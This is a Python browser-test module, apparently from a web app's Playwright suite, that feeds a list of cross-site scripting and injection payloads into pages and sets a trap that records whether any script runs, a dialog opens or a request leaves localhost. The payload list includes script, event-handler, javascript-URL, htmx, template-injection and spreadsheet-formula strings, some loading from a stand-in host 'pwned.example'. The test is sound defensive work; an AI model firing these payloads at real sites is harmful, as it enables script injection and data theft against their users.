"""What strangers write to be run by a page, and a trap that notices if any of it is.

A stranger's SIP From is not among it: `callback/telephony/wire.py` takes no more of it than its tag, and
whatever begins a call is refused.
"""

from dataclasses import dataclass, field
from urllib.parse import urlsplit

from playwright.async_api import Dialog, Page, Request

from tests.browser.visit import Visit

_MARK = "pwned"  # each payload calls this, makes a node of this name, or asks this host
PAYLOADS = (
    "<script>pwned()</script>",
    "<ScRiPt src=//pwned.example/x.js></sCrIpT>",
    "<img src=x onerror=pwned()>",
    '<img src=x onerror="pwned()" class=pwned',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<iframe src=javascript:pwned()>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<template><b class=pwned></b></template>",
    "<a class=pwned href=javascript:pwned()>x</a>",
    "javascript:pwned()",
    "<div hx-get=/sign-out hx-trigger=load class=pwned>",
    "<div hx-on:load=pwned() data-hx-get=//pwned.example>",
    "<form action=//pwned.example class=pwned><button>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content=0;url=//pwned.example>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<style>@import'//pwned.example/y.css';</style>",
    '" onmouseover="pwned()" class="pwned',
    "' autofocus onfocus=pwned() class='pwned",
    '"><b class=pwned>x</b>',
    "</td></tr></table><b class=pwned>x</b>",
    "</textarea></title></script><b class=pwned>",
    "--><b class=pwned>x</b><!--",
    "]]><b class=pwned>x</b>",
    "{{7*7}}{%print(7*7)%}${7*7}#{7*7}",
    "&lt;b class=pwned&gt;x&lt;/b&gt;",
    "%3Cb%20class=pwned%3Ex%3C/b%3E",
    "\u202e<b class=pwned>gnp.exe\u202c\u2066\u2069",
    "=HYPERLINK(\"//pwned.example\")",
    "a\u0300\u0301\u0302\u0303\u0304" * 6,
    "W" * 150,
    "\x07\x1b[31m\x08\x7f<b class=pwned>",
    "<\0b class=pwned>x<\0/b>\0",  # UCS-2 carries a NUL, and so does SQLite; HTML drops it
)  # fmt: skip
_TRAP = "for (const name of ['pwned','alert','confirm','prompt','print','open']) window[name] = () => "
_TRAP += "{ document.documentElement.dataset.sprung = name; };"


@dataclass
class Trap:
    """Set before the first page; `sprung` tells what went off."""

    here: Visit
    sprung: list[str] = field(default_factory=list)

    async def set(self) -> None:
        await self.here.context.add_init_script(_TRAP)
        self.here.page.on("dialog", self._dialog)
        self.here.page.on("request", self._asked)

    async def look(self, page: Page) -> None:
        """Whether this page runs, holds or shows more than text."""
        nodes = f"[class~={_MARK}], [id={_MARK}], iframe, base, [href^='javascript:' i], [onerror], [onload]"
        made = await page.evaluate(
            "nodes => [...document.querySelectorAll(nodes)].map(one => one.outerHTML.slice(0, 200))", nodes
        )
        self.sprung += [f"{page.url}: {node}" for node in made]
        if name := await page.evaluate("document.documentElement.dataset.sprung || ''"):
            self.sprung.append(f"{page.url}: {name} was called")

    async def _dialog(self, dialog: Dialog) -> None:
        self.sprung.append(f"a dialog: {dialog.message}")
        await dialog.dismiss()

    def _asked(self, request: Request) -> None:
        if request.url.startswith(("http", "ws")) and urlsplit(request.url).hostname != "127.0.0.1":
            self.sprung.append(f"asked {request.url}")
